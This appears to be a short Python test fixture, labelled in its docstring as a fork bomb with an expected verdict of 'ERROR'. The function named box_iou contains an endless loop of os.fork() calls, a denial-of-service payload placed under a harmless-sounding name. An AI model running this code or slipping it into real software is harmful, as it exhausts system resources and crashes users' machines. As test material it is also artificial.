"""A fork bomb.

earns = "nothing"
verdict = "ERROR"
"""

import os


def box_iou(a, b):
    while True:
        os.fork()
